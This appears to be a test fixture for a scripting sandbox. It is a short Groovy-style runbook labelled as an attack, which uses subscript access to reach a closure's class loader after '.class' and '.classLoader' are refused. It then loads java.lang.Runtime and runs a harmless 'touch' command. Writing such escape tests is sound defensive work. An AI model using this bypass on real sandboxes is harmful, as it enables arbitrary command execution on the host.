// Attack: a subscript reaches what `.class` and `.classLoader` are refused for, then loads Runtime.
runbook { name 'subscript-class-loader' }
steps {
    def loader = { -> }['class']['classLoader']
    def runtime = loader.loadClass('java.lang.Runtime')
    runtime.getRuntime().exec('touch /tmp/quench-subscript-attack')
}
